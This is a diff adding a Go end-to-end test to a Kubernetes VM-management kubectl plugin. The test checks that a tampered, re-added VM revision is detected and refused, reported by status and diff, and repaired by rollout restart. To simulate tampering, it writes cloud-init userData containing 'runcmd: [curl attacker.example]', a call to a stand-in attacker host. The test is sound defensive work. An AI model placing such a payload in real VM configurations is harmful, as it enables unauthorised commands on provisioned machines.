@@ -11,11 +11,14 @@ import (
 	"testing"
 	"time"
 
+	corev1 "k8s.io/api/core/v1"
 	apierrors "k8s.io/apimachinery/pkg/api/errors"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
 	"k8s.io/apimachinery/pkg/types"
 
 	"github.com/kubectl-vmctl/kubectl-vmctl/internal/contract"
+	"github.com/kubectl-vmctl/kubectl-vmctl/internal/derive"
 	"github.com/kubectl-vmctl/kubectl-vmctl/internal/revision"
 	"github.com/kubectl-vmctl/kubectl-vmctl/internal/scaffold"
 )
@@ -106,4 +109,110 @@ func sorted(a, b string) []string {
 		a, b = b, a
 	}
 	return []string{a, b}
+}
+
+// TestRewrittenRevision: someone who may edit the namespace's stores (the
+// edit role) prunes the revision a fleet pins and, in a second request,
+// adds it again under its hash with other userData, which the store's
+// rule does not refuse. The next Pod's agent makes no VM of it and says
+// why (VMRevisionRewritten); status names it on every Pod that pins it;
+// diff names it and exits 1; rollout restart writes the revision anew and
+// replaces the Pods, which then get their VMs, of the revision as its hash
+// says.
+func TestRewrittenRevision(t *testing.T) {
+	ns := namespace(t)
+	createPrototype(t, ns, "testvm.yaml")
+	deploy(t, ns, scaffold.KindDeployment, "testvm", "--replicas", "1")
+	workload := "deployment/vmctl-testvm"
+	waitPaired(t, ns, "testvm", 1, settle)
+	pin := podTemplateAnnotations(t, ns, workload)[contract.AnnotationVMRevision]
+	stores := e.dyn.Resource(revision.StoreGVR).Namespace(ns)
+	name := revision.StoreName("vmctl-testvm")
+	cur, err := stores.Get(t.Context(), name, metav1.GetOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	rev, _, _ := unstructured.NestedMap(cur.Object, "spec", "revisions", pin)
+	volumes, _, _ := unstructured.NestedSlice(rev, "spec", "template", "spec", "volumes")
+	for _, v := range volumes {
+		if ci, ok := v.(map[string]any)["cloudInitNoCloud"].(map[string]any); ok {
+			ci["userData"] = "#cloud-config\nruncmd: [curl attacker.example]\n"
+		}
+	}
+	if err := unstructured.SetNestedSlice(rev, volumes, "spec", "template", "spec", "volumes"); err != nil {
+		t.Fatal(err)
+	}
+	for _, patch := range []map[string]any{
+		{"spec": map[string]any{"revisions": map[string]any{pin: nil}}},
+		{"spec": map[string]any{"revisions": map[string]any{pin: rev}}},
+	} {
+		b, err := json.Marshal(patch)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := stores.Patch(t.Context(), name, types.MergePatchType, b, metav1.PatchOptions{}); err != nil {
+			t.Fatalf("the store's rule refused %s: %v", b, err)
+		}
+	}
+
+	kubectl(t, nil, "scale", "-n", ns, workload, "--replicas=2")
+	var refused corev1.Pod
+	eventually(t, settle, "the new agent refuses the rewritten revision", func(ctx context.Context) (bool, string, error) {
+		pods, err := agentPods(ctx, ns)
+		if err != nil {
+			return false, "", err
+		}
+		for _, p := range pods {
+			ok, _, err := hasWarningEvent(ctx, ns, p.Name, func(msg string) bool {
+				return strings.HasPrefix(msg, "VM revision rewritten: VM revision "+pin)
+			})
+			if ok || err != nil {
+				refused = p
+				return ok, "", err
+			}
+		}
+		return false, fmt.Sprintf("no such Event of %d Pods", len(pods)), nil
+	})
+	vms, err := derivedVMs(t.Context(), ns)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if vm, ok := vms[derive.Name("testvm", refused.Name, refused.UID)]; ok {
+		t.Fatalf("the agent made VM %s of the rewritten revision", vm.Name)
+	}
+	rows := statusRows(t, ns)
+	if len(rows) != 2 {
+		t.Fatalf("status shows %d rows, want 2: %+v", len(rows), rows)
+	}
+	for _, r := range rows {
+		if len(r.Problems) != 1 || !strings.HasPrefix(r.Problems[0], "VM revision rewritten: "+pin) {
+			t.Errorf("status: Pod %s has problems %q, want the rewritten revision named", r.Pod, r.Problems)
+		}
+	}
+	out, _, code := vmctlCode(t, "diff", "-n", ns)
+	if code != 1 || !strings.Contains(out, "pins VM revision "+pin+", which VMRevisionStore "+ns+"/"+name+" holds rewritten") {
+		t.Errorf("diff: exit %d, stdout:\n%s\nwant the rewritten revision named, exit 1", code, out)
+	}
+
+	out, stderr, code := vmctlCode(t, "rollout", "restart", "testvm", "-n", ns)
+	if code != 0 || !strings.Contains(stderr, "rewritten") || !strings.Contains(out, "deployment.apps/vmctl-testvm restarted") {
+		t.Fatalf("rollout restart: exit %d, stdout:\n%s\nstderr:\n%s", code, out, stderr)
+	}
+	vmctl(t, "rollout", "status", "testvm", "-n", ns, "--timeout", "3m")
+	after, err := stores.Get(t.Context(), name, metav1.GetOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	s, err := revision.FromObject(after)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := s.Verify(pin); err != nil || s.Revisions[pin] == nil {
+		t.Errorf("after the restart the store holds %v: %v", s.Hashes(), err)
+	}
+	for _, r := range statusRows(t, ns) {
+		if len(r.Problems) > 0 {
+			t.Errorf("status after the restart: %s/%s has problems %q", r.Pod, r.VM, r.Problems)
+		}
+	}
 }
